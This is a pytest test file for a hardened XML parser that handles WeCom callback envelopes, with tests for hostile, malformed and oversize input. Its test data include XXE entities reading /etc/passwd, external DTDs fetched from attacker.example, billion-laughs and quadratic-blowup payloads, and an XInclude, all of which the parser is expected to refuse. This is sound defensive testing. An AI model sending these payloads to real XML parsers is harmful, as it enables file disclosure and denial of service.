"""The hardened XML layer: hostile, malformed and oversize bodies all end as one typed XmlError."""

from __future__ import annotations

import pytest

from chalicelib.wecom import xmlparse
from chalicelib.wecom.xmlparse import (
    DEFAULT_MAX_BYTES, XML_FORBIDDEN, XML_MALFORMED, XML_TOO_LARGE, Envelope, XmlError, parse_envelope, parse_xml,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Encrypt>&lol9;</Encrypt></xml>"""


def code_of(body, **kwargs) -> str:
    with pytest.raises(XmlError) as info:
        parse_xml(body, **kwargs)
    return info.value.code


def test_flat_document_with_cdata_and_plain_text():
    body = ("<xml><ToUserName><![CDATA[ww123]]></ToUserName><CreateTime>1409659813</CreateTime>"
            "<Content><![CDATA[<b>not markup</b> & 中文]]></Content><Empty></Empty><Escaped>a &lt; b</Escaped></xml>")
    assert parse_xml(body) == {"ToUserName": "ww123", "CreateTime": "1409659813",
                               "Content": "<b>not markup</b> & 中文", "Empty": "", "Escaped": "a < b"}


def test_bytes_and_str_give_the_same_fields():
    body = '<?xml version="1.0" encoding="utf-8"?><xml><Name><![CDATA[张三]]></Name></xml>'
    assert parse_xml(body.encode("utf-8")) == parse_xml(body) == {"Name": "张三"}


def test_text_is_kept_verbatim():
    assert parse_xml("<xml><A><![CDATA[  padded \n]]></A></xml>") == {"A": "  padded \n"}


def test_nested_elements_are_left_out():
    body = ("<xml><UserID>u1</UserID><ExtAttr><Item><Name>n</Name></Item></ExtAttr>"
            "<Department>1,2</Department></xml>")
    assert parse_xml(body) == {"UserID": "u1", "Department": "1,2"}


def test_a_repeated_tag_keeps_its_first_value():
    assert parse_xml("<xml><Encrypt>first</Encrypt><Encrypt>second</Encrypt></xml>") == {"Encrypt": "first"}


def test_comments_and_processing_instructions_are_ignored():
    assert parse_xml("<xml><!-- c --><?pi data?><A>1</A></xml>") == {"A": "1"}


# --- hostile input ------------------------------------------------------------------------------

@pytest.mark.parametrize("body", [
    pytest.param(b'<!DOCTYPE xml><xml><A>1</A></xml>', id="dtd"),
    pytest.param(b'<!DOCTYPE xml [<!ENTITY e "boom">]><xml><A>&e;</A></xml>', id="internal-entity"),
    pytest.param(BILLION_LAUGHS, id="billion-laughs"),
    pytest.param(b'<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><A>&e;</A></xml>',
                 id="external-entity"),
    pytest.param(b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><xml/>',
                 id="parameter-entity"),
    pytest.param(b'<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>', id="external-dtd"),
])
def test_hostile_documents_are_forbidden(body):
    assert code_of(body) == XML_FORBIDDEN


QUADRATIC_BLOWUP = (b'<!DOCTYPE xml [<!ENTITY a "' + b"x" * 8000 + b'">]><xml><A>' + b"&a;" * 4000
                    + b"</A></xml>")


@pytest.mark.parametrize("body", [
    pytest.param(QUADRATIC_BLOWUP, id="quadratic-blowup"),
    pytest.param(b'<!DOCTYPE xml PUBLIC "-//A//B//EN" "http://attacker.example/x.dtd"><xml/>', id="public-dtd"),
    pytest.param(b'<!DOCTYPE xml [<!ENTITY e PUBLIC "-//A//B//EN" "http://attacker.example/e">]><xml><A>&e;</A></xml>',
                 id="external-entity-public"),
    pytest.param(b'<!DOCTYPE xml [<!ENTITY % p "<!ENTITY e \'x\'>"> %p;]><xml><A>&e;</A></xml>',
                 id="internal-parameter-entity"),
    pytest.param(b'<!DOCTYPE xml [<!NOTATION n SYSTEM "viewer"><!ENTITY e SYSTEM "file:///etc/passwd" NDATA n>]>'
                 b'<xml/>', id="unparsed-entity"),
    pytest.param(b'<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml/>', id="dtd-without-entities"),
    pytest.param(b'<!DOCTYPE xml [<!ATTLIST xml injected CDATA "default">]><xml/>', id="dtd-attribute-defaults"),
    pytest.param(b'<!DOCTYPE xml []><xml/>', id="empty-internal-subset"),
    pytest.param(b'<?xml version="1.0" standalone="yes"?><!DOCTYPE xml><xml/>', id="standalone-dtd"),
    pytest.param(b'<!DOCTYPE root [<!ENTITY e "x">]><root>&e;</root>', id="dtd-before-a-wrong-root"),
    pytest.param('<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><A>&e;</A></xml>', id="as-str"),
    pytest.param('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE xml [<!ENTITY e "x">]><xml>&e;</xml>'
                 .encode("utf-16"), id="utf-16"),
])
def test_more_hostile_documents_are_forbidden(body):
    assert code_of(body) == XML_FORBIDDEN


def _disarm(monkeypatch, *names):
    for name in names:
        monkeypatch.setattr(xmlparse, name, lambda *args: None)


@pytest.mark.parametrize("body", [
    pytest.param(b'<!DOCTYPE xml [<!ENTITY e "boom">]><xml><A>&e;</A></xml>', id="internal"),
    pytest.param(b'<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><A>&e;</A></xml>', id="external"),
    pytest.param(b'<!DOCTYPE xml [<!ENTITY % p "x">]><xml/>', id="parameter"),
    pytest.param(b'<!DOCTYPE xml [<!NOTATION n SYSTEM "v"><!ENTITY e SYSTEM "x" NDATA n>]><xml/>', id="unparsed"),
    pytest.param(BILLION_LAUGHS, id="billion-laughs"),
])
def test_entity_declarations_are_refused_even_without_the_dtd_refusal(monkeypatch, body):
    # Defence in depth, as in defusedxml: each refusal stands on its own.
    _disarm(monkeypatch, "_refuse_doctype")
    with pytest.raises(XmlError) as info:
        parse_xml(body)
    assert info.value.code == XML_FORBIDDEN
    assert "entity declaration" in info.value.message


@pytest.mark.parametrize("external_id", [b'SYSTEM "file:///etc/passwd"', b'PUBLIC "-//A//B//EN" "http://x.example/e"'])
def test_external_entity_references_are_refused_even_without_the_other_refusals(monkeypatch, external_id):
    _disarm(monkeypatch, "_refuse_doctype", "_refuse_entity_decl")
    with pytest.raises(XmlError) as info:
        parse_xml(b"<!DOCTYPE xml [<!ENTITY e " + external_id + b">]><xml><A>&e;</A></xml>")
    assert info.value.code == XML_FORBIDDEN
    assert "external entity reference" in info.value.message


def test_a_doctype_anywhere_else_is_malformed():
    assert code_of(b"<xml/><!DOCTYPE xml>") == XML_MALFORMED
    assert code_of(b"<xml><!DOCTYPE xml></xml>") == XML_MALFORMED


def test_xinclude_is_never_processed():
    # No namespace processing and no XInclude: the element is a plain leaf named xi:include, nothing is read.
    body = (b'<xml><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
            b'<B><![CDATA[<xi:include href="file:///etc/passwd"/>]]></B></xml>')
    assert parse_xml(body) == {"xi:include": "", "B": '<xi:include href="file:///etc/passwd"/>'}


def test_predefined_entities_and_character_references_are_expanded():
    assert parse_xml(b"<xml><A>&lt;&gt;&amp;&quot;&apos;&#20013;&#x6587;</A></xml>") == {"A": "<>&\"'中文"}


def test_many_entity_references_within_the_limit_are_joined():
    assert parse_xml(b"<xml><A>" + b"&amp;" * 10000 + b"</A></xml>") == {"A": "&" * 10000}


def test_a_huge_number_of_attributes_is_parsed_and_ignored():
    attributes = b" ".join(b'a%d="v"' % i for i in range(4000))
    body = b"<xml " + attributes + b"><A " + attributes[:attributes.index(b" a2000=")] + b">1</A></xml>"
    assert len(body) <= DEFAULT_MAX_BYTES
    assert parse_xml(body) == {"A": "1"}


def test_deep_nesting_within_the_limit_does_not_recurse():
    depth = 6000
    assert parse_xml(b"<xml><A>1</A>" + b"<n>" * depth + b"</n>" * depth + b"</xml>") == {"A": "1"}


def test_root_text_and_text_between_fields_are_ignored():
    assert parse_xml(b"<xml>junk<A>1</A>tail<B>2</B>more</xml>") == {"A": "1", "B": "2"}


def test_a_nested_first_occurrence_does_not_hide_a_later_leaf():
    assert parse_xml(b"<xml><A><B>1</B></A><A>2</A></xml>") == {"A": "2"}


def test_text_split_by_comments_and_cdata_is_joined():
    assert parse_xml(b"<xml><A>a<!-- c -->b<![CDATA[c]]>d<?pi x?>e</A></xml>") == {"A": "abcde"}


def test_bytearray_is_accepted():
    assert parse_xml(bytearray(b"<xml><A>1</A></xml>")) == {"A": "1"}


def test_utf8_bom_is_accepted():
    assert parse_xml(b"\xef\xbb\xbf<xml><A>1</A></xml>") == {"A": "1"}


@pytest.mark.parametrize("body, expected", [
    pytest.param(b'<?xml version="1.0" encoding="ISO-8859-1"?><xml><A>\xe9</A></xml>', "é", id="latin-1"),
    pytest.param(b'<?xml version="1.0" encoding="windows-1251"?><xml><A>\xe9</A></xml>', "й", id="cp1251"),
    pytest.param('<?xml version="1.0" encoding="UTF-16"?><xml><A>中</A></xml>'.encode("utf-16"), "中", id="utf-16"),
])
def test_declared_single_byte_and_utf16_encodings_are_decoded(body, expected):
    assert parse_xml(body) == {"A": expected}


def test_undeclared_entity_is_malformed_not_resolved():
    assert code_of(b"<xml><A>&e;</A></xml>") == XML_MALFORMED


# --- size -------------------------------------------------------------------------------------------

def test_default_limit_is_64_kib():
    assert DEFAULT_MAX_BYTES == 64 * 1024


def test_body_at_the_limit_is_parsed_and_one_byte_more_is_refused():
    shell = b"<xml><A></A></xml>"
    at_limit = shell.replace(b"<A>", b"<A>" + b"x" * (DEFAULT_MAX_BYTES - len(shell)))
    assert len(parse_xml(at_limit)["A"]) == DEFAULT_MAX_BYTES - len(shell)
    over = at_limit.replace(b"<A>", b"<A>x")
    assert code_of(over) == XML_TOO_LARGE


def test_size_is_checked_before_parsing():
    # Over the limit and hostile: the size check answers first, so the parser never sees it.
    assert code_of(BILLION_LAUGHS + b" " * DEFAULT_MAX_BYTES) == XML_TOO_LARGE


def test_str_limit_counts_utf8_bytes():
    body = "<xml><A>" + "中" * 100 + "</A></xml>"  # 118 characters, 318 bytes
    assert parse_xml(body, max_bytes=318) == {"A": "中" * 100}
    assert code_of(body, max_bytes=317) == XML_TOO_LARGE


def test_oversize_str_is_refused():
    assert code_of("<xml>" + "a" * (10 * DEFAULT_MAX_BYTES) + "</xml>") == XML_TOO_LARGE


def test_custom_limit():
    assert code_of(b"<xml><A>12345</A></xml>", max_bytes=10) == XML_TOO_LARGE


# --- malformed --------------------------------------------------------------------------------

@pytest.mark.parametrize("body", [
    pytest.param(b"", id="empty"),
    pytest.param(b"not xml at all", id="text"),
    pytest.param(b"<xml><A>1</A>", id="unclosed"),
    pytest.param(b"<xml><A>1</B></xml>", id="mismatched"),
    pytest.param(b"<xml/><xml/>", id="two-roots"),
    pytest.param(b"\xff\xfe\x00<", id="garbage-bytes"),
    pytest.param(b"<xml><A>\xc3\x28</A></xml>", id="invalid-utf8"),
    pytest.param("<xml><A>\ud800</A></xml>", id="lone-surrogate"),
    pytest.param(b'<?xml version="1.0" encoding="no-such-codec"?><xml/>', id="unknown-encoding"),
    pytest.param(b'<?xml version="1.0" encoding="GBK"?><xml/>', id="multibyte-encoding"),
    pytest.param(b"<xml><A>&#0;</A></xml>", id="nul-reference"),
    pytest.param(b"   \n\t\r\n", id="whitespace-only"),
    pytest.param("  ", id="whitespace-only-str"),
    pytest.param(b"<xml/>\x00", id="nul-after-root"),
    pytest.param(b"<xml><A>\x01</A></xml>", id="control-character"),
    pytest.param(b"<xml><A>&#xD800;</A></xml>", id="surrogate-reference"),
    pytest.param(b'<xml a="1" a="2"/>', id="duplicate-attribute"),
    pytest.param(b"<xml><A>1</A></xml>junk", id="junk-after-root"),
    pytest.param(b'<?xml version="1.0" encoding="US-ASCII"?><xml><A>\xe9</A></xml>', id="byte-outside-ascii"),
    pytest.param(b'<?xml version="1.0" encoding="UTF-16"?><xml/>', id="utf-16-declared-but-utf-8"),
    pytest.param(b'<?xml version="1.0" encoding="Shift_JIS"?><xml/>', id="shift-jis"),
    pytest.param(b'<?xml version="1.0" encoding="utf-7"?><xml/>', id="utf-7"),
    pytest.param(b'<?xml version="1.0" encoding="utf-32"?><xml/>', id="utf-32"),
    pytest.param(b'<?xml version="1.0" encoding="cp037"?><xml/>', id="ebcdic"),
    pytest.param(b'<?xml version="1.0" encoding="rot13"?><xml/>', id="not-a-text-codec"),
    pytest.param(b'<?xml version="1.0" encoding="idna"?><xml/>', id="idna-codec"),
])
def test_malformed_documents(body):
    assert code_of(body) == XML_MALFORMED


@pytest.mark.parametrize("body", [b"<root><A>1</A></root>", b"<XML/>", b'<x:xml xmlns:x="urn:x"/>'])
def test_root_must_be_xml(body):
    assert code_of(body) == XML_MALFORMED


@pytest.mark.parametrize("body", [None, 42, ["<xml/>"]])
def test_wrong_types_are_malformed(body):
    assert code_of(body) == XML_MALFORMED


def test_error_carries_code_and_message():
    with pytest.raises(XmlError) as info:
        parse_xml(b"<root/>")
    assert info.value.code == XML_MALFORMED
    assert "root" in info.value.message


# --- envelope ---------------------------------------------------------------------------------

def test_self_built_envelope():
    body = (b"<xml><ToUserName><![CDATA[ww5823bf96d3bd56c7]]></ToUserName>"
            b"<Encrypt><![CDATA[RypEvHKD8QQ==]]></Encrypt><AgentID><![CDATA[218]]></AgentID></xml>")
    assert parse_envelope(body) == Envelope(to_user_name="ww5823bf96d3bd56c7", encrypt="RypEvHKD8QQ==",
                                            agent_id="218")


def test_suite_envelope_has_an_empty_agent_id():
    body = "<xml><ToUserName><![CDATA[ww4asffe9xxx4c0f4c]]></ToUserName><Encrypt><![CDATA[abc=]]></Encrypt>" \
           "<AgentID><![CDATA[]]></AgentID></xml>"
    assert parse_envelope(body) == Envelope("ww4asffe9xxx4c0f4c", "abc=", "")


@pytest.mark.parametrize("body", [b"<xml><ToUserName>ww</ToUserName></xml>",
                                  b"<xml><Encrypt></Encrypt></xml>",
                                  b"<xml><Encrypt><Nested>abc</Nested></Encrypt></xml>"])
def test_envelope_without_encrypt_is_malformed(body):
    with pytest.raises(XmlError) as info:
        parse_envelope(body)
    assert info.value.code == XML_MALFORMED


def test_envelope_is_size_limited_too():
    with pytest.raises(XmlError) as info:
        parse_envelope(b"<xml><Encrypt>" + b"A" * 100 + b"</Encrypt></xml>", max_bytes=64)
    assert info.value.code == XML_TOO_LARGE
